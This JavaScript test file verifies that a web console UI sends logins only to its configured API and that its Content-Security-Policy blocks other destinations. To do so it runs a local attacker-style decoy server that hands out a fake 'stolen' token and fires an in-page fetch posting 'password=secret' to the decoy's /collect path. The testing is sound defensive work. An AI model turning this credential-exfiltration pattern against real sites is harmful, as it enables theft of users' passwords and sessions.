// The UI sends the password and the session token only where its host configured the API: never
// to an address in the page URL (?api=), and the page's Content-Security-Policy blocks any other
// destination. A UI hosted apart from the server still works when its index.html names the API.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, before, test } from 'node:test';

import {
  ADMIN_PASSWORD,
  clickWidget,
  launchBrowser,
  logInThroughUi,
  openApp,
  recordCspViolations,
  startListener,
  startServer,
  waitForState,
} from './helpers.mjs';

let server;
let decoy;
let browser;

// An attacker's server: it accepts anything from any origin and answers a login with a session,
// so a UI that talked to it would have every reason to go on doing so.
function decoyAnswer(req, res) {
  res.setHeader('Access-Control-Allow-Origin', req.headers.origin ?? '*');
  res.setHeader('Access-Control-Allow-Headers', 'Authorization, Content-Type, Accept');
  res.setHeader('Access-Control-Allow-Methods', 'GET, POST');
  if (req.method === 'OPTIONS') {
    res.writeHead(204).end();
    return;
  }
  res.setHeader('Content-Type', 'application/json');
  res.writeHead(200).end(JSON.stringify({
    token: 'stolen',
    user: { id: 1, name: 'Decoy', email: 'admin@waconsole.local', role: 'admin' },
  }));
}

before(async () => {
  server = await startServer();
  decoy = await startListener(decoyAnswer);
  browser = await launchBrowser();
  await recordCspViolations(browser.context);
});

after(async () => {
  await browser?.context.close();
  await decoy?.close();
  await server?.stop();
});

test('?api= in the page URL does not send the login anywhere but the real server', async () => {
  const { page, problems } = browser;
  await openApp(page, `${server.url}/?api=${encodeURIComponent(decoy.url)}#/active`);
  await logInThroughUi(page);
  const state = await waitForState(page, 'the menu after logging in',
    (s) => s.screen === 'menu' && s.section === 'active' && s.table?.rows.length > 0);
  assert.notEqual(state.user.name, 'Decoy', 'the session came from the real server');
  // Give a stray request time to arrive, with the table refreshing every second meanwhile.
  await page.waitForTimeout(1500);
  assert.deepEqual(decoy.requests.map((r) => `${r.method} ${r.url}`), [],
    'nothing reached the address in the link');
  const leaked = decoy.requests.some((r) => r.body.includes(ADMIN_PASSWORD));
  assert.equal(leaked, false);
  assert.deepEqual(await page.evaluate(() => window.cspViolations), []);
  assert.deepEqual(problems, []);
});

test('the served page carries a policy that limits connections to its own origin', async () => {
  const response = await fetch(`${server.url}/`);
  const policy = response.headers.get('content-security-policy') ?? '';
  assert.match(policy, /connect-src 'self'(;|$)/);
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
  const html = await response.text();
  assert.match(html, /<meta http-equiv="Content-Security-Policy" content="[^"]*connect-src 'self';/);
});

test('a script on the page cannot send anything to another address', async () => {
  const page = await browser.context.newPage();
  await openApp(page, server.url);
  const outcome = await page.evaluate(async (target) => {
    try {
      await fetch(`${target}/collect`, { method: 'POST', body: 'password=secret', mode: 'no-cors' });
      return 'sent';
    } catch (error) {
      return 'blocked';
    }
  }, decoy.url);
  assert.equal(outcome, 'blocked');
  await page.waitForTimeout(300);
  assert.deepEqual(decoy.requests, []);
  const violations = await page.evaluate(() => window.cspViolations);
  assert.ok(violations.some((v) => v.startsWith('connect-src blocked http://127.0.0.1')), violations.join('\n'));
  await page.close();
});

// The web build's dist, served from another origin with index.html saying where the API is, as
// a static host would after building with -DWACONSOLE_API_BASE (docs: README, Hosting the UI).
async function startStaticHost(apiBase) {
  const dist = process.env.WACONSOLE_WEB_DIST;
  const types = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css',
    '.wasm': 'application/wasm', '.ttf': 'font/ttf' };
  const host = http.createServer((req, res) => {
    const name = new URL(req.url, 'http://x').pathname.replace(/^\/$/, '/index.html');
    const file = path.join(dist, path.normalize(name));
    if (!file.startsWith(dist) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
      res.writeHead(404).end();
      return;
    }
    let body = fs.readFileSync(file);
    if (name === '/index.html') {
      body = body.toString('utf8')
        .replace('<meta name="waconsole-api-base" content="">',
          `<meta name="waconsole-api-base" content="${apiBase()}">`)
        .replace("connect-src 'self';", `connect-src 'self' ${apiBase()};`);
    }
    res.writeHead(200, { 'Content-Type': types[path.extname(name)] ?? 'application/octet-stream' });
    res.end(body);
  });
  await new Promise((resolve) => host.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${host.address().port}`, close: () => new Promise((r) => { host.closeAllConnections(); host.close(r); }) };
}

test('a UI hosted apart logs in to the API its index.html names, and only there', async () => {
  let apiUrl = '';
  const host = await startStaticHost(() => apiUrl);
  const api = await startServer({ extraArgs: ['--cors-origin', host.url] });
  apiUrl = api.url;
  const page = await browser.context.newPage();
  try {
    const html = await (await fetch(`${host.url}/`)).text();
    assert.ok(html.includes(`content="${api.url}"`), 'the static host names the API');
    await openApp(page, `${host.url}/?api=${encodeURIComponent(decoy.url)}`);
    await logInThroughUi(page);
    await waitForState(page, 'the menu', (s) => s.screen === 'menu');
    await clickWidget(page, 'menu.active');
    await waitForState(page, 'the active table', (s) => s.table?.rows.length > 0);
    assert.deepEqual(decoy.requests, []);
    assert.deepEqual(await page.evaluate(() => window.cspViolations), []);
  } finally {
    await page.close();
    await api.stop();
    await host.close();
  }
});
